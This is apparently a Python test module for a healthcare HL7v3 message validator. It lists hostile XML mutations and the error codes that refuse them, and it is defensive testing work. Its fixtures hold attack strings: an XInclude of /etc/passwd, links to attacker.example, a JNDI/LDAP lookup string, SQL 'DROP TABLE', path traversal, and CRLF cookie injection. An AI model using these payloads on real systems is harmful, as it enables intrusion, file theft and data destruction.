"""Attacks on what is judged: split values, fields twice or elsewhere, confused names, strange characters, injection.

Knows: what is done to a message, and the code it is refused with.
Must not know: how a case is run.
"""

from tests.hostile.xml_case import (
    BSN,
    Family,
    doubled,
    doubled_empty,
    in_header,
    in_id,
    in_patient,
    in_payload,
    in_value,
    in_wrapper,
    put,
    without,
)

MALFORMED, LIMIT, FIELD = "EN-XML-MALFORMED", "EN-XML-LIMIT", "EN-WRAPPER-FIELD"
AMBIGUOUS, UNKNOWN, BAD_BSN = "EN-XML-AMBIGUOUS", "EN-INTERACTION-UNKNOWN", "EN-BSN-INVALID"
HALF, REST = BSN[:4], BSN[4:]
XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
EMPTY = ("id", "creationTime", "versionCode", "interactionId", "profileId", "processingCode", "processingModeCode")
EMPTY_FIELDS = (*EMPTY, "acceptAckCode")

SPLIT = Family("split values")
SPLIT.each_refused(
    AMBIGUOUS,
    [
        ("by a remark", in_value(f"{HALF}<!-- -->{REST}")),
        ("by a remark at the end", in_value(f"{BSN}<!-- -->")),
        ("by a remark before it", in_value(f"<!-- 999911120 -->{BSN}")),
        ("by an element", in_value(f"{HALF}<x/>{REST}")),
        ("by an element around it", in_value(f"<x>{BSN}</x>")),
    ],
)
SPLIT.refused(LIMIT, "by more than is read", in_value(BSN + " " * 5_000 + "1"))
SPLIT.refused(BAD_BSN, "by a line", in_value(f"{HALF}\n{REST}"))
SPLIT.refused(MALFORMED, "a remark in a tag", put("<creationTime value=", "<creationTime <!-- --> value="))
SPLIT.refused(MALFORMED, "a tag in an attribute", in_id("a<b"))
SPLIT.refused(MALFORMED, "two dashes in a remark", in_wrapper("<!-- a -- b -->"))
SPLIT.refused(MALFORMED, "the end of character data in a text", in_payload("<x>]]></x>"))
SPLIT.refused(FIELD, "character data around a field", put("<acceptAckCode ", "<![CDATA[<acceptAckCode ]]>"))
SPLIT.refused(
    FIELD, "a remark around a field", put('<acceptAckCode code="AL"/>', '<!-- <acceptAckCode code="AL"/> -->')
)
SPLIT.refused(
    FIELD, "character data for a field", put('<acceptAckCode code="AL"/>', '<![CDATA[<acceptAckCode code="AL"/>]]>')
)
SPLIT.harmless("by character data", in_value(f"{HALF}<![CDATA[{REST}]]>"))
SPLIT.harmless("spaces around it", in_value(f"\n {BSN} \n"))
SPLIT.harmless("a remark between fields", in_wrapper('<!-- <id root="1.2" extension="other"/> -->'))
SPLIT.harmless("character data that looks like a field", in_payload('<x><![CDATA[</x><id root="1.2"/>]]></x>'))

FIELDS = Family("fields twice or missing")
FIELDS.each_refused(FIELD, [(f"{name} twice", doubled_empty(name)) for name in EMPTY_FIELDS])
FIELDS.each_refused(FIELD, [(f"no {name}", without(name)) for name in EMPTY_FIELDS])
FIELDS.each_refused(
    FIELD,
    [
        ("receiver twice", doubled("receiver")),
        ("sender twice", doubled("sender")),
        (
            "two devices",
            put("</device></receiver>", '</device><device><id root="1.2" extension="1"/></device></receiver>'),
        ),
        ("control act twice", put("</ControlActProcess>", "</ControlActProcess><ControlActProcess/>")),
        (
            "a second id behind the control act",
            put("</ControlActProcess>", '</ControlActProcess><id root="1.2" extension="o"/>'),
        ),
        ("fields behind the control act only", lambda body: behind(body, b"<acceptAckCode ")),
        ("trigger event twice", put("<effectiveTime", '<code code="X"/><effectiveTime')),
        ("an id without a root", put('root="2.16.840.1.113883.2.4.6.6.80000001.1"/>', "/>")),
        ("an id that points elsewhere", put("<id extension=", '<id href="#other" x=')),
    ],
)
FIELDS.harmless(
    "an id in a field",
    put('<keyWordText code="PATID"', '<x><id root="1.2" extension="o"/></x><keyWordText code="PATID"'),
)
FIELDS.harmless("an id in the control act", put("<effectiveTime", '<id root="1.2" extension="o"/><effectiveTime'))


def behind(body: bytes, start: bytes) -> bytes:
    """Move a field of the wrapper behind the control act."""
    begin = body.index(start)
    end = body.index(b"/>", begin) + 2
    moved = body[:begin] + body[end:]
    return moved.replace(b"</ControlActProcess>", b"</ControlActProcess>" + body[begin:end])


LINES = Family("attention lines")
LINE = '<attentionLine><keyWordText code="{}"/>{}</attentionLine>'
KEYLESS = '<attentionLine><value root="1.2" extension="3"/>{}</attentionLine>'
LINES.refused(FIELD, "two keywords", put("<keyWordText code=", '<keyWordText code="CTX"/><keyWordText code='))
LINES.refused(FIELD, "a keyword behind its value", in_wrapper(KEYLESS.format('<keyWordText code="CTX"/>')))
LINES.refused(FIELD, "two values and no keyword", in_wrapper(KEYLESS.format('<value root="1.2" extension="4"/>')))
LINES.refused(FIELD, "two values", put("</attentionLine>", '<value root="1.2" extension="3"/></attentionLine>'))
LINES.harmless("one that ends without a value", in_wrapper(LINE.format("CTX", "")))

TYPES = Family("types and nil")
TYPES.refused(FIELD, "a message id of null flavour", put("<id extension=", '<id nullFlavor="NI" x='))
TYPES.refused_by_rule(
    "EN-WRONG-PATIENT",
    "another patient of null flavour",
    in_payload(
        '<subject><Patient><id nullFlavor="UNK" root="2.16.840.1.113883.2.4.6.3" extension="999911120"/></Patient>'
        "</subject>"
    ),
)
TYPES.harmless("another type of the message id", put("<id extension=", f'<id {XSI} xsi:type="CD" extension='))
TYPES.harmless("a type of an unknown prefix", put("<id extension=", f'<id {XSI} xsi:type="no:Such" extension='))
TYPES.harmless("nil on the payload", in_payload(f'<x {XSI} xsi:nil="true">text</x>'))
TYPES.harmless(
    "a patient of null flavour without a number",
    in_payload('<subject><Patient><id nullFlavor="UNK" root="2.16.840.1.113883.2.4.6.3"/></Patient></subject>'),
)

EXTERNAL = Family("external references")
XI = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
EXTERNAL.refused(FIELD, "an inclusion for the message id", put("<id extension=", f"{XI}<x extension="))
EXTERNAL.refused(AMBIGUOUS, "an inclusion in a value", in_value(XI))
EXTERNAL.harmless("an inclusion in the payload", in_payload(XI))
EXTERNAL.harmless("a place of a schema", in_payload(f'<x {XSI} xsi:schemaLocation="urn:x file:///etc/passwd"/>'))
EXTERNAL.harmless("another base", put("<soap:Body>", '<soap:Body xml:base="http://attacker.example/">'))
EXTERNAL.harmless(
    "a link", in_payload('<x xmlns:l="http://www.w3.org/1999/xlink" l:href="http://attacker.example/"/>')
)
EXTERNAL.harmless(
    "a schema in the header",
    in_header(
        '<s:schema xmlns:s="http://www.w3.org/2001/XMLSchema"><s:import schemaLocation="http://attacker.example/"/></s:schema>'
    ),
)

CONFUSION = Family("names that disagree")
NAMED = 'extension="REPC_IN990003NL" root="2.16.840.1.113883.1.6"'
CONFUSION.refused_by_rule(
    "EN-INTERACTION-MISMATCH",
    "element and interactionId",
    put(NAMED, NAMED.replace("REPC_IN990003NL", "PORX_IN932000NL")),
)
CONFUSION.refused_by_rule(
    "EN-SOAPACTION-MISMATCH", "SOAPAction of another service", lambda body: body, "urn:hl7-org:v3/Ping_Ping"
)
CONFUSION.refused_by_rule("EN-SOAPACTION-FORM", "SOAPAction of no form", lambda body: body, "urn:hl7-org:v3/")
CONFUSION.refused_by_rule(
    "EN-SOAPACTION-FORM",
    "SOAPAction with an address behind it",
    lambda body: body,
    "urn:hl7-org:v3/WaarneemverslagVersturen_Versturen#urn:x",
)
CONFUSION.refused_by_rule(
    "EN-SOAPACTION-FORM",
    "SOAPAction with a line in it",
    lambda body: body,
    "urn:hl7-org:v3/WaarneemverslagVersturen_Versturen%0d%0aX: y",
)
CONFUSION.each_refused(
    UNKNOWN,
    [
        ("interactionId of another root", put(NAMED, NAMED.replace("113883.1.6", "113883.1.7"))),
        ("interactionId of no form", put(NAMED, NAMED.replace("REPC_", "REPC-"))),
        ("interactionId in small letters", put(NAMED, NAMED.lower())),
        ("interactionId with a space", put(NAMED, NAMED.replace("3NL", "3NL "))),
        ("interactionId in other letters", put(NAMED, NAMED.replace("REPC", "R\u0415PC"))),
        (
            "element in small letters",
            lambda body: body.replace(b"<REPC_IN990003NL", b"<repc_in990003nl").replace(
                b"</REPC_IN990003NL", b"</repc_in990003nl"
            ),
        ),
        (
            "element in other letters",
            lambda body: body.replace(b"<REPC_IN990003NL", "<R\u0415PC_IN990003NL".encode()).replace(
                b"</REPC_IN990003NL", "</R\u0415PC_IN990003NL".encode()
            ),
        ),
        (
            "element with more behind it",
            lambda body: body.replace(b"<REPC_IN990003NL", b"<REPC_IN990003NL.x").replace(
                b"</REPC_IN990003NL", b"</REPC_IN990003NL.x"
            ),
        ),
    ],
)

CASE = Family("capitals")
CASE.each_refused(
    FIELD,
    [
        ("ID for id", put("<id extension=", "<ID extension=")),
        ("EXTENSION for extension", put("<id extension=", "<id EXTENSION=")),
        ("Receiver for receiver", lambda body: body.replace(b"receiver>", b"Receiver>")),
        ("controlActProcess before its fields", put("<acceptAckCode ", "<AcceptAckCode ")),
    ],
)
CASE.refused_by_rule(
    "EN-WRAPPER-PROCESSING-CODE", "p for P", put('processingCode code="P"', 'processingCode code="p"')
)
CASE.refused_by_rule("EN-WRAPPER-VERSION", "version in capitals", put("NICTIZEd2005-Okt", "NICTIZED2005-OKT"))

SPACES = Family("spaces")
SPACES.each_refused(
    FIELD,
    [
        ("in the moment", put('creationTime value="', 'creationTime value=" ')),
        (
            "in the root of the message id",
            put('root="2.16.840.1.113883.2.4.6.6.80000001.1"', 'root=" 2.16.840.1.113883.2.4.6.6.80000001.1"'),
        ),
        ("in the receiver", put('extension="80000003"', 'extension="80000003 "')),
        ("in the root of the receiver", put('extension="80000003" root="', 'extension="80000003" root=" ')),
        ("a line end in the message id", in_id("a&#10;b")),
        ("a carriage return in the message id", in_id("a&#13;b")),
        ("a tab in the message id", in_id("a&#9;b")),
    ],
)
SPACES.refused_by_rule("EN-TOKEN-MISMATCH", "at the ends of the message id", in_id(" a "))
SPACES.refused_by_rule("EN-TOKEN-MISMATCH", "a line end in an attribute, which is a space", in_id("a\nb"))
SPACES.harmless("inside the message id", in_id("a  b"))
SPACES.harmless("around the patient number", in_patient(f" {BSN} "))

LETTERS = Family("letters that look alike")
LETTERS.each_refused(
    FIELD,
    [
        ("a field", put("<id extension=", "<\u0456d extension=")),
        ("an invisible space in the message id", in_id("a\u200bb")),
        ("a turn of direction in the message id", in_id("a\u202eb")),
        ("a line separator in the message id", in_id("a\u2028b")),
        ("a joiner in the message id", in_id("a\u200db")),
        ("a hard space in the message id", in_id("a\u00a0b")),
        (
            "Arabic digits of the receiver",
            put('extension="80000003"', 'extension="\u0668\u0660\u0660\u0660\u0660\u0660\u0660\u0663"'),
        ),
        ("Arabic digits of the moment", put('creationTime value="2', 'creationTime value="\u0662')),
        ("wide digits of a root", put('root="2.16.840.1.113883.2.4.6.6.80000001.1"', 'root="\uff12.16.840"')),
    ],
)
LETTERS.refused(BAD_BSN, "wide digits of the patient", in_value("".join(chr(ord(digit) + 0xFEE0) for digit in BSN)))
LETTERS.refused(
    BAD_BSN, "Arabic digits of the patient", in_patient("".join(chr(ord(digit) + 0x630) for digit in BSN))
)
LETTERS.harmless("an accent in one character in the message id", in_id("caf\u00e9"))
LETTERS.harmless("an accent in two characters in the message id", in_id("cafe\u0301"))

INJECTION = Family("injection by an id")
INJECTION.each_refused(
    FIELD,
    [
        ("a header line", in_id("a&#13;&#10;Set-Cookie: b=c")),
        ("a log line", in_id("a&#10;{&quot;event&quot;:&quot;forged&quot;}")),
        ("129 characters", in_id("a" * 129)),
        ("nothing", in_id("")),
        ("an escape of a terminal, one byte", in_id("a\u009b2J")),
    ],
)
for name, text in {
    "percent signs": "%0d%0aX: y",
    "quotes of JSON": "{&quot;a&quot;:&quot;b&quot;}",
    "quotes of SQL": "a'; DROP TABLE message; --",
    "a path": "../../etc/passwd",
    "a template": "${jndi:ldap://attacker.example/a}{{7*7}}",
    "a tag": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "the end of character data": "]]&gt;",
    "a format": "%s%n{0}",
}.items():
    INJECTION.harmless(name, in_id(text))

FAMILIES = (SPLIT, FIELDS, LINES, TYPES, EXTERNAL, CONFUSION, CASE, SPACES, LETTERS, INJECTION)
